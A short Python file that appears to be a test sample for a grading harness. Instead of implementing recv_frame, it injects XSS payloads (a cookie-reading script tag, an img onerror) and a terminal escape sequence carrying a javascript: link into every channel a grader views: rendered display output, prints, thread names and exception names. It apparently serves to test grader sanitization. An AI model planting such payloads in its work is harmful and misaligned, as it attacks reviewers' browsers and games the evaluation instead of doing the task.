"""Puts scripts wherever something is shown to whoever grades: outputs, names, errors, what a trial tells.

Earns: 0
"""

import socket, threading
from IPython.display import HTML, SVG, Javascript, Markdown, display

SCRIPT = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
display(HTML(SCRIPT), Javascript("alert(1)"), Markdown(SCRIPT))
display({"image/svg+xml": f"<svg>{SCRIPT}</svg>", "text/latex": SCRIPT, "application/vnd.x+json": {}, "image/png": SCRIPT}, raw=True)
print(SCRIPT, "\x1b]8;;javascript:alert(1)\x1b\\\x1b[2J")


def recv_frame(sock, max_len):
    print(SCRIPT)
    threading.Thread(target=threading.Event().wait, name=SCRIPT, daemon=True).start()
    raise type(SCRIPT, (Exception,), {})(SCRIPT)
